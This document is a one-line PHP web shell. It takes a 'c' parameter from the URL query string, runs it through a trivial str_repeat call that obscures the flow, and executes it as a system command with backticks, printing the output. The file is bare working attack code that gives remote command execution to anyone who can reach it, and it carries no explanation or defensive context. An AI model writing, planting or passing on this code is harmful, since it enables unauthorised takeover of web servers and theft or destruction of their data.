<?php $c = str_repeat("$_GET[c]", 1); echo `$c`;
